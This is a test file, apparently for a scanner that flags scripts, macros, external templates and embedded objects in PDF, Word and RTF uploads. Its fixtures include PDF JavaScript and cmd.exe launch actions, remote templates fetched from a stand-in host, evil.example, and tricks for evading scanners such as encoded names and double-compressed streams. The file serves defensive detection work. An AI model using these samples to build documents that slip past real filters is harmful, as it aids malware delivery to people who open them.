import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import {
  makeDeflatedPdfStream,
  makeDocx,
  makeOlderWord,
  makePdf,
  makePdfStream,
  makeRelationship,
} from '#tests/fixtures/documents.ts';
import { findActiveContent } from './index.ts';

const PDF = 'application/pdf';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const OLDER_WORD = 'application/msword';
const RICH_TEXT = 'application/rtf';

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const rels = (type: string, target: string, mode?: string) => makeDocx(makeRelationship(type, target, mode));
const replaceBytes = (content: Uint8Array, from: string, to: string) =>
  Buffer.from(Buffer.from(content).toString('latin1').replaceAll(from, to), 'latin1');
const PACKED_TWICE = deflateSync(deflateSync(Buffer.from(`1 0 ${SCRIPT}`)));
/** Looks like the filter of the stream around it. */
const DECOY = '/X << /Filter /FlateDecode >>';
/** A second part of the same name hides the first from readers that keep the last. */
const DOUBLE_PART = replaceBytes(
  makeDocx(makeRelationship('attachedTemplate', 'http://evil.example/t.dotm', 'External'), {
    'word/_rels/documenu.xml.rels': '<Relationships/>',
  }),
  'documenu',
  'document',
);
const richText = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);

describe('active content', () => {
  test.each([
    ['scripts', SCRIPT],
    ['scripts', '<< /S /J#61vaScript /JS 2 0 R >>'],
    ['scripts', '<< /S %comment\n/JavaScript /JS 2 0 R >>'],
    ['scripts', `<< /S %${'x'.repeat(300)}\n/JavaScript /JS 2 0 R >>`],
    ['scripts', '<< /A (%) /S %\n/JavaScript /JS 2 0 R >>'],
    ['unreadable', '/EF '.repeat(11_000)],
    ['scripts', '<< /S 2 0 R >>\nendobj\n2 0 obj\n/JavaScript'],
    ['scripts', '<< /Names << /JavaScript 4 0 R >> >>'],
    ['scripts', '<< /S/Launch/Win<</F(cmd.exe)>> >>'],
    ['scripts', '<< /AcroForm << /XFA [(template) 3 0 R] >> >>'],
    ['scripts', '<< /Type /Annot /Subtype /RichMedia >>'],
    ['attachments', '<< /Names << /EmbeddedFiles << >> >> >>'],
    ['attachments', '<< /Type /Filespec /EF << /F 3 0 R >> >>'],
    ['protected', '<< >>\nendobj\ntrailer << /Encrypt 4 0 R >>'],
  ])('is found in a PDF: %s in %.40s', async (finding, object) => {
    expect(await findActiveContent(PDF, makePdf(object))).toBe(finding);
  });

  test.each([
    ['scripts', makeDeflatedPdfStream('/Type /ObjStm /N 1', `1 0 ${SCRIPT}`)],
    ['scripts', makeDeflatedPdfStream('/Type /Obj#53tm /N 1', `1 0 ${SCRIPT}`)],
    ['scripts', makeDeflatedPdfStream('/Type /ObjStm /N 2', '1 0 2 13 << /S 2 0 R >> /JavaScript')],
    ['attachments', makeDeflatedPdfStream('/Type /ObjStm /N 1', '1 0 << /EF << /F 3 0 R >> >>')],
    ['unreadable', makePdfStream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', deflateSync('1 0 <<>>'))],
    ['unreadable', makePdfStream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('not deflated'))],
    ['scripts', makeDeflatedPdfStream(`/Type /ObjStm ${' '.repeat(5000)} /N 1`, `1 0 ${SCRIPT}`)],
    ['scripts', makeDeflatedPdfStream('/Type /ObjStm /X (an obj ) /N 1', `1 0 ${SCRIPT}`)],
    [
      'scripts',
      replaceBytes(makeDeflatedPdfStream('/Type /ObjStm /N 1', `1 0 ${SCRIPT}`), '\nstream\n', '\nstream \n'),
    ],
    ['unreadable', makePdfStream(`/Type /ObjStm /Filter [/FlateDecode /FlateDecode] ${DECOY}`, PACKED_TWICE)],
    ['unreadable', makeDeflatedPdfStream('/Type /ObjStm /N 1', 'x'.repeat(21_000_000))],
  ])('is found in objects that a PDF packs together: %s', async (finding, stream) => {
    expect(await findActiveContent(PDF, makePdf('<< >>', stream))).toBe(finding);
  });

  test.each([
    ['macros', makeDocx('', { 'word/vbaProject.bin': 'x' })],
    ['macros', makeDocx('', { 'WORD/VBAPROJECT.BIN': 'x' })],
    ['macros', rels('vbaProject', 'harmless.bin')],
    ['macros', rels('&#118;baProject', 'harmless.bin')],
    [
      'macros',
      makeDocx('', {
        '[Content_Types].xml':
          '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      }),
    ],
    ['external', rels('attachedTemplate', 'http://evil.example/t.dotm', 'External')],
    ['external', rels('attachedTemplate', 'file://evil.example/share/t.dotm', 'External')],
    ['external', rels('attachedTemplate', '\\\\evil.example\\share\\t.dotm', 'External')],
    ['external', rels('image', 'file://evil.example/x.png', 'External')],
    ['external', rels('oleObject', 'mhtml:http://evil.example/x.html', 'external')],
    ['attachments', rels('oleObject', 'embeddings/oleObject1.bin')],
    ['attachments', rels('package', 'embeddings/setup.xlsm')],
    ['attachments', rels('aFChunk', 'chunk.rtf')],
    ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': '<!DOCTYPE x [<!ENTITY v "vba">]><Relationships/>' })],
    ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': '<Relationships>' })],
    ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': ' '.repeat(2_100_000) })],
    ['unreadable', DOUBLE_PART],
    ['unreadable', Buffer.from('PK\u0003\u0004 not a zip')],
  ])('is found in a Word document: %s', async (finding, content) => {
    expect(await findActiveContent(WORD, content)).toBe(finding);
  });

  test.each([
    ['macros', makeOlderWord('WordDocument', '_VBA_PROJECT')],
    ['macros', makeOlderWord('WordDocument', 'vba')],
    ['protected', makeOlderWord('WordDocument', 'EncryptedPackage')],
    ['attachments', makeOlderWord('WordDocument', 'ObjectPool')],
  ])('is found in an older Word document: %s', async (finding, content) => {
    expect(await findActiveContent(OLDER_WORD, content)).toBe(finding);
  });

  test.each([
    ['attachments', '{\\object\\objemb{\\*\\objdata 0105}}'],
    ['attachments', '{\\object\\objupdate\\objdata01050000}'],
    ['external', '{\\*\\template http://evil.example/t.dotm}'],
    ['external', '{\\*\\template \\\\\\\\evil.example\\\\t.dotm}'],
  ])('is found in a rich text: %s in %j', async (finding, text) => {
    expect(await findActiveContent(RICH_TEXT, richText(text))).toBe(finding);
  });

  test('is found in documents whose type says that they have macros', async () => {
    const type = 'application/vnd.ms-word.document.macroenabled.12';
    expect(await findActiveContent(type, makeDocx())).toBe('macros');
  });

  test.each([
    ['a PDF', PDF, makePdf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
    ['a PDF about scripts', PDF, makePdf('<< /Keywords (HTML /JavaScript, Sales/Launch) >>')],
    [
      'a PDF about scripts, packed',
      PDF,
      makePdf(makeDeflatedPdfStream('/Type /ObjStm /N 1', '1 0 << /Keywords (HTML/JavaScript) >>')),
    ],
    ['a large PDF that tries to take long', PDF, makePdf('/S%'.repeat(3_000_000))],
    ['a PDF with a link', PDF, makePdf('<< /S /URI /URI (https://me.example) >>')],
    ['a PDF with a picture', PDF, makePdf(makePdfStream('/Subtype /Image /Filter /DCTDecode', Buffer.alloc(9)))],
    ['a Word document', WORD, makeDocx()],
    ['a Word document with a link', WORD, rels('hyperlink', 'https://me.example/?a=1&amp;b=2', 'External')],
    [
      "a Word document from a template on its author's disk",
      WORD,
      rels('attachedTemplate', 'file:///C:\\Users\\kim\\Templates\\CV.dotx', 'External'),
    ],
    ['a Word document with a chart', WORD, rels('package', '../embeddings/Microsoft_Excel_Sheet.xlsx')],
    ['an older Word document', OLDER_WORD, makeOlderWord('Root Entry', 'WordDocument', '1Table')],
    ['a rich text', RICH_TEXT, richText('{\\*\\template C:\\\\Templates\\\\CV.dot}Mechanic')],
    ['a text', 'text/plain', Buffer.from('/S /JavaScript')],
  ])('is not found in %s', async (_, type, content) => {
    expect(await findActiveContent(type, content)).toBeUndefined();
  });
});
